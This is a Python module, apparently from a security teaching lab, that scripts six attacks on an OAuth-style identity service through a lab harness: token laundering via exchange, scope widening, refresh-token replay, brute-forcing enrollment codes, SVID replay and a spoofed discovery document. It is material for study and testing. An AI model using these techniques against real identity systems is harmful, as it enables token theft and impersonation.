"""Attacks 15 to 20, step by step in a room: each ends with the answer that brings the notes."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import httpx

from dialtone_kit.client.identity import IdentityClient
from dialtone_kit.keys import ProofKey
from dialtone_kit.lesson.attack_room import AttackRoom

SCOPE = "notes:read"
LOCKED = 410


def laundered(room: AttackRoom) -> httpx.Response:
    """T, exchanged by the attacker's agent for a token that is bound to its own key."""
    return _exchanged(room, room.me.client, room.bag.T)


def widened(room: AttackRoom) -> httpx.Response:
    """D, exchanged for more than it allows."""
    return _exchanged(room, room.me.client, room.bag.D)


def renewed(room: AttackRoom) -> httpx.Response:
    """A refresh token that its owner has used already."""
    answer = room.http.post(room.token_endpoint, data=room.bag.R)
    return room.call(answer.json().get("access_token", "none"), scheme="Bearer")


def guessed(room: AttackRoom) -> httpx.Response:
    """An enrollment's code, tried until it fits; then T, exchanged as that sponsor's agent."""
    enrollment = room.bag.E
    for code in enrollment.codes:
        sent = enrollment | {"verification_code": code}
        answer = room.http.post(room.confirm_url, json=sent)
        if answer.is_success or answer.status_code == LOCKED:
            break
    if not answer.is_success:
        return answer
    granted = answer.json()
    agent = room.become(granted["client_id"], granted["client_secret"])
    return _exchanged(room, agent, room.bag.T)


def attested_again(room: AttackRoom) -> httpx.Response:
    """A workload's request for an SVID, sent once more; then the SVID signs in as that workload."""
    answer = room.http.post(room.svid_url, json=room.bag.W)
    form = room.bag.A | {"client_assertion": answer.json().get("svid", "none")}
    answer = room.http.post(room.token_endpoint, data=form)
    return room.call(answer.json().get("access_token", "none"), scheme="Bearer")


def lured(room: AttackRoom) -> httpx.Response:
    """A discovery document that borrows the issuer's name and names the liar's token endpoint."""
    caught = room.lure({"issuer": room.issuer, "token_endpoint": "{here}/token"})
    agent, key = room.become(*caught.basic), ProofKey.generate()
    return agent.call("GET", room.notes, agent.get_token(SCOPE, key=key))


def _exchanged(room: AttackRoom, agent: IdentityClient, subject: str) -> httpx.Response:
    token = agent.exchange(subject, scope=SCOPE, key=room.me.key)
    return agent.call("GET", room.notes, token)


Steps = Callable[[AttackRoom], httpx.Response]
STEPS: Mapping[int, Steps] = {
    15: laundered,
    16: widened,
    17: renewed,
    18: guessed,
    19: attested_again,
    20: lured,
}
